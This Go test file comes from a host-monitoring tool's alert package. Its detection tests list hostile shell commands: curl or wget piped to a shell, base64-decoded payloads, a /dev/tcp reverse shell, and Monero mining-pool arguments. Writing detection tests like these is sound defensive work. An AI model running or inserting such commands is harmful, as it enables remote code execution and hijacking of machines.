package alert

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"topside/internal/steer/config"
	"topside/internal/steer/threshold"
)

func TestOneApart(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		a, b string
		want bool
	}{
		{"sshd", "sshdd", true}, {"sshd", "ssh", true}, {"sshd", "sshx", true}, {"sshd", "shsd", true},
		{"sshd", "sshd", false}, {"sshd", "bash", false}, {"systemd", "systmd", true}, {"", "a", true}, {"", "", false},
	} {
		if got := oneApart(c.a, c.b); got != c.want {
			t.Errorf("oneApart(%q, %q) = %v", c.a, c.b, got)
		}
		if got := oneApart(c.b, c.a); got != c.want {
			t.Errorf("oneApart(%q, %q) = %v", c.b, c.a, got)
		}
	}
}

// The shapes are those of the contract's section 3, R7, with its false
// positives and its blind spots.
func TestShellPatterns(t *testing.T) {
	t.Parallel()
	for command, want := range map[string]bool{
		"curl http://x | sh":                            true,
		"curl -fsSL https://x/y | sudo -E bash -s -- a": true,
		"wget -qO- x | bash":                            true,
		"wget x | /bin/dash":                            true,
		"curl x | python3 -":                            true,
		"curl x | FOO=1 bash":                           true,
		"bash <(curl -s x)":                             true,
		`sh -c "$(curl -fsSL x)"`:                       true,
		`eval "$(wget -qO- x)"`:                         true,
		"eval `curl x`":                                 true,
		"echo a | base64 -d | sh":                       true,
		"base64 --decode f | bash":                      true,
		"bash -i >& /dev/tcp/1.2.3.4/99 0>&1":           true,
		"curl https://host/samba":                       false,
		"curl x | shasum":                               false,
		"curl x | shuf":                                 false,
		"curl x | tee bash.txt":                         false,
		"curl x | grep sh":                              false,
		"curl x > f; sh f":                              false,
		"grep 'curl x | sh' f":                          false,
		`echo "wget y | bash"`:                          false,
		`git commit -m "eval $(date)"`:                  false,
		"cat curl.txt | wc":                             false,
		"echo hi > /dev/tcp/1.2.3.4/80":                 false,
	} {
		if got := shellPattern(command) != ""; got != want {
			t.Errorf("%q: %v, want %v", command, got, want)
		}
	}
}

func TestCommandOf(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"bash", "-c", "x y"}, "x y"}, {[]string{"bash", "-lc", "x"}, "x"}, {[]string{"python3", "-cimport os"}, "import os"},
		{[]string{"perl", "-e", "x"}, "x"}, {[]string{"bash", "script", "-c", "x"}, ""}, {[]string{"bash"}, ""}, {nil, ""},
		{[]string{"bash", "--norc", "-c", "x"}, "x"}, {[]string{"node", "--eval", "x"}, "x"}, {[]string{"bash", "-"}, ""},
	} {
		if got := commandOf(c.args); got != c.want {
			t.Errorf("%q: %q, want %q", c.args, got, c.want)
		}
	}
}

func TestMinerArguments(t *testing.T) {
	t.Parallel()
	for a, want := range map[string]bool{
		"stratum+tcp://x:3333": true, "--url=stratum+ssl://x": true, "pool.supportxmr.com:443": true, "xmr.nanopool.org:14433": true,
		"--donate-level": true, "--donate-level=1": true, "--threads": false, "--threads=4": false, "--test-threads": false,
		"https://blog.example.org/pool.monero": false, "see pool.monero for more": false, "": false,
	} {
		if got := minerArgument(a) != ""; got != want {
			t.Errorf("%q: %v, want %v", a, got, want)
		}
	}
}

func FuzzCommand(f *testing.F) {
	for _, seed := range []string{"curl x | sh", `a "b $(c "d") e" 'f`, "\\", `"$(`, "eval `x`"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, command string) {
		if bare := unquoted(command); len(bare) > len(command)+2*strings.Count(command, `"`)+2*strings.Count(command, "'") {
			t.Errorf("%q grew to %q", command, bare)
		}
		shellPattern(command)
		codePattern(command)
		minerArgument(command)
		commandOf(strings.Split(command, " "))
		scriptOf(strings.Split(command, " "))
		hiddenPart(command)
	})
}

// An exec is seen: the same process id and start under another executable is
// judged anew, and what was said of the former one is over.
func TestExecIsJudgedAnew(t *testing.T) {
	t.Parallel()
	exe, name := "/usr/bin/sleep", "sleep"
	alerts := judgeOnce(12, &actor{PID: 100, PPID: 99, Name: "x", Exe: "/tmp/x", Then: []then{{At: 4, Exe: &exe, Name: &name}}})
	if len(alerts) != 1 || alerts[0].Active() || alerts[0].Rule != rulePath {
		t.Errorf("after the exec: %+v", alerts)
	}
}

// A recycled id is another process: nothing is inherited from the first.
func TestRecycledIDIsAnotherProcess(t *testing.T) {
	t.Parallel()
	alerts := judgeOnce(12,
		&actor{PID: 100, PPID: 99, Name: "x", Exe: "/tmp/x", Until: 3},
		&actor{PID: 100, PPID: 99, Name: "sleep", Exe: "/usr/bin/sleep", From: 3, Age: 1},
	)
	if len(alerts) != 1 || alerts[0].Active() {
		t.Errorf("with a recycled id: %+v", alerts)
	}
}

// A zombie is what its parent has not collected: it does nothing, and its alert
// ends. Where only its first thread has ended the process runs on, and so does its
// alert.
func TestZombieEndsItsAlert(t *testing.T) {
	t.Parallel()
	z, threads := "Z", int32(2)
	alerts := judgeOnce(12, &actor{PID: 100, PPID: 99, Name: "x", Exe: "/tmp/.x", Then: []then{{At: 3, State: &z}}})
	if len(alerts) != 1 || alerts[0].Active() {
		t.Errorf("of a zombie: %+v", alerts)
	}
	alerts = judgeOnce(12, &actor{PID: 100, PPID: 99, Name: "x", Exe: "/tmp/.x", Then: []then{{At: 3, State: &z, Threads: &threads}}})
	if len(alerts) != 1 || !alerts[0].Active() {
		t.Errorf("of a process whose first thread ended: %+v", alerts)
	}
}

// A table whose parents form a loop ends.
func TestLoopOfParents(t *testing.T) {
	t.Parallel()
	judgeOnce(3, &actor{PID: 100, PPID: 101, Name: "a", Exe: "/tmp/a"}, &actor{PID: 101, PPID: 100, Name: "b", Exe: "/tmp/b"}, &actor{PID: 102, PPID: 102, Name: "c", Exe: "/tmp/c"})
}

func TestBook(t *testing.T) {
	t.Parallel()
	var b Book
	now := sceneEpoch
	f := Finding{Rule: "r", Severity: Warning, Cause: "c", PID: 7, Process: "p", Executable: "/x/p", Unit: "u.service", Message: "m"}
	b.Update(now, []Finding{f})
	list := b.List(View{}, now)
	if len(list) != 1 || list[0].ID != IDOf("c") || list[0].Count != 1 || !list[0].Active() {
		t.Fatalf("one finding: %+v", list)
	}
	id := list[0].ID

	f.PID, f.Severity = 8, Critical
	b.Update(now.Add(5*time.Second), []Finding{f})
	list = b.List(View{}, now)
	if len(list) != 1 || list[0].Count != 2 || list[0].Severity != Critical || !list[0].FirstSeen.Equal(now) {
		t.Fatalf("the same cause again: %+v", list)
	}

	b.Suppress([]config.Suppression{{Process: "p", Unit: "u.service"}})
	if len(b.List(View{}, now)) != 0 || len(b.List(View{Suppressed: true}, now)) != 1 {
		t.Error("a suppression by process and unit does not hide, or hides for ever")
	}
	b.Suppress([]config.Suppression{{Rule: "r", Until: now}})
	if len(b.List(View{}, now.Add(time.Second))) != 1 {
		t.Error("a suppression holds beyond its end")
	}
	b.Suppress([]config.Suppression{{}})
	if len(b.List(View{}, now)) != 1 {
		t.Error("an empty suppression hides everything")
	}

	if err := b.Acknowledge(id, "known", now); err != nil || len(b.List(View{}, now)) != 0 {
		t.Errorf("acknowledged: %v", err)
	}
	if err := b.Acknowledge("nothing", "", now); err == nil {
		t.Error("an unknown id can be acknowledged")
	}

	b.Update(now.Add(time.Minute), nil)
	ended := b.List(View{History: true, Acknowledged: true}, now)
	if len(ended) != 1 || ended[0].Active() || !ended[0].Ended.Equal(now.Add(5*time.Second)) {
		t.Fatalf("after its end: %+v", ended)
	}
	b.Update(now.Add(2*time.Minute), []Finding{f})
	if list = b.List(View{}, now); len(list) != 1 || list[0].ID != id {
		t.Errorf("come back: %+v", list)
	}
}

func TestBookIsBounded(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		var b Book
		now := sceneEpoch
		for range rapid.IntRange(1, 8).Draw(t, "passes") {
			now = now.Add(time.Duration(rapid.IntRange(1, 40).Draw(t, "seconds")) * time.Second)
			var findings []Finding
			for i := range rapid.IntRange(0, 300).Draw(t, "findings") {
				severity := []Severity{Critical, Warning, Info}[i%3]
				findings = append(findings, Finding{Rule: "r", Severity: severity, Cause: fmt.Sprint(i, rapid.IntRange(0, 3).Draw(t, "cause")), PID: int32(i)})
			}
			b.Update(now, findings)
			list := b.List(View{Acknowledged: true, Suppressed: true, History: true}, now)
			if len(b.active) > MostActive || len(list) > MostActive+MostHistory {
				t.Fatalf("%d alerts", len(list))
			}
			if !slices.IsSortedFunc(list[:len(b.active)], func(x, y Alert) int { return x.Severity.Rank() - y.Severity.Rank() }) {
				t.Fatal("the most severe are not first")
			}
		}
	})
}

func TestThresholdBecomesAlert(t *testing.T) {
	t.Parallel()
	var b Book
	w := threshold.NewWatch(threshold.Settings{threshold.CPU: {Limit: 80, Hold: 10 * time.Second, Slack: 5}})
	at := func(seconds int, value float64) {
		now := sceneEpoch.Add(time.Duration(seconds) * time.Second)
		changed := w.Observe(now, []threshold.Reading{{Metric: threshold.CPU, Value: value, Known: true}})
		b.Update(now, nil)
		b.Cross(changed, w.States())
	}
	at(0, 90)
	if len(b.List(View{}, sceneEpoch)) != 0 {
		t.Error("an alert before the hold is over")
	}
	at(10, 97)
	at(40, 85)
	list := b.List(View{}, sceneEpoch)
	if len(list) != 1 || list[0].Rule != "threshold_cpu" || *list[0].Peak != 97 || !list[0].FirstSeen.Equal(sceneEpoch) {
		t.Fatalf("crossed: %+v", list)
	}
	at(50, 70)
	list = b.List(View{History: true}, sceneEpoch)
	if len(list) != 1 || list[0].Active() || *list[0].Peak != 97 {
		t.Fatalf("ended: %+v", list)
	}
}
